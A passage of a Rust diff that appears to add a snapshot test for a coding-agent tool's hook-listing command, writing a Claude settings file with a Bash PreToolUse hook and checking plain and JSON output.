+    let claude = json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh", "timeout": 30}]}]}});
+    p.write(".claude/settings.json", &claude.to_string());
+    let input = format!(
+        "==> managed hooks.json <==\n{managed}\n==> ~/.coding-agent/hooks.json <==\n{user}\n==> .coding-agent/hooks.json <==\n{project}\n==> .claude/settings.json <==\n{claude}"
+    );
+    check_snapshot(&p, "list_several_sources", &input, &["list"], &[]);
+    check_snapshot(
+        &p,
+        "list_several_sources_json",
+        &input,
+        &["list", "--json"],
+        &[],
+    );
+}
